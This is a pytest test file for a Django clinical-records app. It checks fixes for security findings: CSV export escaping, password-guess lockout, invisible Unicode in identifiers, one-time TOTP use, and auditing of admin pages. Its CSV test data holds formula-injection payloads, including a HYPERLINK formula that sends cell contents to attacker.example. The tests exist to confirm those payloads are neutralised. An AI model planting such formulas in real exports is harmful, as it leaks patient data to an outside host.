"""The smaller findings of the third attack run: formulas in the audit CSV (N4), guessing the
current password (N5), invisible characters in identifiers (N9), an empty rating (N10), a TOTP
code used twice at once (N12), the audit log's own admin pages (N15), and the two N17 holes."""

import csv
import datetime
import io
import threading

import pytest
from auditlog.models import LogEntry
from django.db import connection
from django.urls import reverse
from django_otp.oath import TOTP
from django_otp.plugins.otp_totp.models import TOTPDevice

from accounts.twofactor import verify_once
from audit.selectors import AuditFilters
from audit.services import audit_export_run, audit_export_start
from audit.writer import record_access
from intake.models import Patient
from rulesets.models import Rule, RuleSet
from tests.conftest import CSRFClient
from tests.factories import PASSWORD, PatientFactory, step_post

pytestmark = pytest.mark.django_db


# -- N4: the audit CSV never carries a live formula ------------------------------------------------

FORMULAS = [
    '=HYPERLINK("http://attacker.example/?"&A1,"Open record")',
    "+SUM(1,2)",
    "-1+2",
    "@cmd",
    "\tcmd",
    "\rcmd",
]


def test_names_that_look_like_formulas_are_text_in_the_audit_csv(superuser, program_a):
    for i, given in enumerate(FORMULAS):
        record_access(PatientFactory(program=program_a, given_name=given, mrn=f"F-{i}"))
    export = audit_export_start(user=superuser, filters=AuditFilters())
    audit_export_run(export_id=export.pk)
    export.refresh_from_db()
    with export.file.open("rb") as fh:
        rows = list(csv.reader(io.StringIO(fh.read().decode())))
    risky = ("=", "+", "-", "@", "\t", "\r")
    assert not [cell for row in rows[1:] for cell in row if cell.startswith(risky)]
    patients = {row[6] for row in rows[1:]}
    for given in FORMULAS:
        assert any(p.startswith("'" + given) for p in patients), given


# -- N5: the current password cannot be guessed from a signed-in session -------------------------


def test_wrong_current_passwords_lock_the_account_and_sign_the_session_out(client, clinician_a):
    client.force_login(clinician_a)
    url = reverse("password_change")
    for _ in range(4):
        response = client.post(
            url,
            {"old_password": "wrong-guess", "new_password1": "x" * 14, "new_password2": "x" * 14},
        )
        assert response.status_code == 200
        assert "Your old password was entered incorrectly" in response.content.decode()
    response = client.post(
        url, {"old_password": "wrong-guess", "new_password1": "x" * 14, "new_password2": "x" * 14}
    )
    assert response.status_code == 302 and response["Location"] == reverse("login")
    assert client.get(reverse("home")).status_code == 302  # signed out
    from axes.models import AccessAttempt

    assert (
        AccessAttempt.objects.filter(username=clinician_a.username).get().failures_since_start == 5
    )
    # The right password is refused now too: the account is locked from this address.
    fresh = CSRFClient()
    page = fresh.post(reverse("login"), {"username": clinician_a.username, "password": PASSWORD})
    assert "locked" in page.content.decode().lower()


def test_admins_password_page_sends_staff_to_the_guarded_one(client, superuser):
    client.force_login(superuser)
    response = client.get("/admin/password_change/")
    assert response.status_code == 302 and response["Location"] == reverse("password_change")
    response = client.post("/admin/password_change/", {"old_password": "x"})
    assert response.status_code == 302 and response["Location"] == reverse("password_change")


# -- N9: invisible characters in identifiers -----------------------------------------------------


def _register(client, program, **fields):
    data = {
        "program": program.pk,
        "given_name": "Avery",
        "family_name": "Quinn",
        "date_of_birth": "1980-02-03",
        "sex": "female",
        "mrn": "M-100",
        "preferred_language": "English",
        "phone": "",
        **fields,
    }
    return client.post(reverse("intake:patient_create"), data)


@pytest.mark.parametrize(
    "invisible",
    ["\u200b", "\u2060", "\u00ad", "\ufeff", "\u2028", "\u2029", "\u3164", "\u115f", "\u2800"],
    ids=["zwsp", "word-joiner", "soft-hyphen", "bom", "line-sep", "para-sep", "hangul-filler",
         "choseong-filler", "braille-blank"],
)  # fmt: skip
def test_invisible_characters_are_refused_in_names_and_mrns(
    invisible, client, clinician_a, program_a
):
    client.force_login(clinician_a)
    for field in ("mrn", "given_name", "family_name"):
        value = {"mrn": "M-100", "given_name": "Avery", "family_name": "Quinn"}[field]
        response = _register(client, program_a, **{field: value[:2] + invisible + value[2:]})
        assert response.status_code == 200
        assert "Remove the invisible characters" in response.content.decode()
    assert Patient.objects.count() == 0


def test_mrns_and_names_are_compared_after_nfkc_normalisation(client, clinician_a, program_a):
    client.force_login(clinician_a)
    assert _register(client, program_a).status_code == 302
    twin = _register(client, program_a, mrn="\uff2d-\uff11\uff10\uff10")  # full-width M-100
    assert "Medical record number M-100 is already used" in twin.content.decode()
    same_person = _register(client, program_a, mrn="M-101", given_name="\uff21very")
    assert "different person from the existing patient" in same_person.content.decode()
    assert Patient.objects.count() == 1


# -- N10: an empty rating is "not yet rated" -------------------------------------------------------


def test_save_and_exit_with_no_rating_leaves_the_dimension_unrated(client, clinician_a, patient_a):
    from intake.services import assessment_start

    client.force_login(clinician_a)
    assessment = assessment_start(
        user=clinician_a, patient=patient_a, kind="initial", assessment_date=datetime.date.today()
    )
    url = reverse("intake:assessment_step", args=[assessment.pk, "D2"])
    post = step_post("D2", {}, version=assessment.version, action="save_exit")
    post["rating"] = ""
    post["rating_follows"] = "0"
    assert client.post(url, post).status_code == 302
    assessment.refresh_from_db()
    assert "D2" not in assessment.confirmed_ratings
    for step in ("D1", "D2", "D3", "summary"):
        page = client.get(reverse("intake:assessment_step", args=[assessment.pk, step]))
        assert page.status_code == 200, step
    assert client.get(reverse("placement:recommendation", args=[assessment.pk])).status_code in (
        200,
        302,
    )


def test_the_service_never_stores_an_empty_rating(clinician_a, patient_a):
    from intake.services import assessment_save_step, assessment_start

    assessment = assessment_start(
        user=clinician_a, patient=patient_a, kind="initial", assessment_date=datetime.date.today()
    )
    saved = assessment_save_step(
        user=clinician_a,
        assessment_id=assessment.pk,
        version=assessment.version,
        step="D2",
        answers={},
        rating="",
        complete=False,
    )
    assert saved.confirmed_ratings == {}


# -- N12: a TOTP code verifies once --------------------------------------------------------------


def _device(user):
    device = TOTPDevice.objects.create(user=user, name="authenticator", confirmed=True)
    totp = TOTP(device.bin_key, device.step, device.t0, device.digits, device.drift)
    return device, f"{totp.token():06d}"


def test_one_code_read_by_two_sessions_before_either_saves_verifies_once(supervisor_a):
    device, code = _device(supervisor_a)
    first = TOTPDevice.objects.get(pk=device.pk)
    second = TOTPDevice.objects.get(pk=device.pk)  # both loaded before either verified: the race
    assert verify_once(first, code) is True
    assert verify_once(second, code) is False
    fresh = TOTPDevice.objects.get(pk=device.pk)
    assert fresh.verify_token(code) is False  # django-otp's own check agrees it is used


@pytest.mark.django_db(transaction=True)
@pytest.mark.skipif(connection.vendor != "postgresql", reason="needs concurrent connections")
def test_eight_sessions_sending_one_code_at_once_get_one_success(supervisor_a):
    device, code = _device(supervisor_a)
    results, start = [], threading.Barrier(8)

    def attempt():
        from django.db import connection as conn

        try:
            start.wait()
            results.append(verify_once(TOTPDevice.objects.get(pk=device.pk), code))
        finally:
            conn.close()

    threads = [threading.Thread(target=attempt) for _ in range(8)]
    for t in threads:
        t.start()
    for t in threads:
        t.join(30)
    assert sorted(results) == [False] * 7 + [True]


def test_a_recovery_code_is_used_up_by_the_first_request(supervisor_a):
    from django_otp.plugins.otp_static.models import StaticDevice

    device = StaticDevice.objects.create(user=supervisor_a, name="recovery", confirmed=True)
    device.token_set.create(token="abcd1234")
    stale = StaticDevice.objects.get(pk=device.pk)
    assert verify_once(device, "abcd1234") is True
    assert verify_once(stale, "abcd1234") is False


# -- N15: the audit log's admin pages are audited --------------------------------------------------


def test_reading_an_audit_entry_in_admin_is_itself_audited(superuser, program_a, client):
    patient = PatientFactory(program=program_a)  # created: a change record with name and MRN
    entry = LogEntry.objects.filter(object_pk=str(patient.pk), action=LogEntry.Action.CREATE).get()
    client.force_login(superuser)
    before = LogEntry.objects.filter(action=LogEntry.Action.ACCESS).count()
    page = client.get(reverse("admin:auditlog_logentry_change", args=[entry.pk]))
    assert page.status_code == 200
    access = LogEntry.objects.filter(action=LogEntry.Action.ACCESS).order_by("-pk").first()
    assert LogEntry.objects.filter(action=LogEntry.Action.ACCESS).count() == before + 1
    assert access.additional_data["page"] == "admin:logentry entry"
    assert access.additional_data["patient_ids"] == [patient.pk]
    listing = client.get(reverse("admin:auditlog_logentry_changelist"))
    assert listing.status_code == 200
    latest = LogEntry.objects.filter(action=LogEntry.Action.ACCESS).order_by("-pk").first()
    assert latest.additional_data["page"] == "admin:logentry"
    assert patient.pk in latest.additional_data["patient_ids"]


def test_the_audit_entries_in_admin_are_for_superusers_only(rule_admin, client):
    client.force_login(rule_admin)
    assert client.get(reverse("admin:auditlog_logentry_changelist")).status_code == 403


# -- N17 ----------------------------------------------------------------------------------------


def test_reverting_a_published_rule_from_its_history_is_a_refusal(superuser, client):
    from rulesets.services import rule_set_clone, rule_set_publish, rule_set_verify

    source = RuleSet.objects.get(name="asam3-default", status="published")
    published = rule_set_clone(rule_set=source, user=superuser)  # rows with their history
    rule_set_verify(rule_set=published, user=superuser)
    rule_set_publish(rule_set=published, user=superuser)
    rule = Rule.objects.get(rule_set=published, rule_id="T-D5-3")
    history = rule.history.order_by("history_date").first()
    client.force_login(superuser)
    url = reverse("admin:rulesets_rule_simple_history", args=[rule.pk, history.history_id])
    response = client.post(url, {"rule_id": "T-D5-3", "text": "changed"}, follow=True)
    assert response.status_code == 200
    assert "nothing was changed" in response.content.decode()
    rule.refresh_from_db()
    assert rule.text != "changed"


def test_a_password_only_superuser_session_cannot_run_the_deep_health_check(
    superuser, client, settings
):
    settings.STEPWISE_ENFORCE_2FA = True
    client.force_login(superuser)  # the password, not the second factor
    assert client.get("/healthz?deep=1").status_code == 403
    assert client.get("/healthz").status_code in (200, 503)
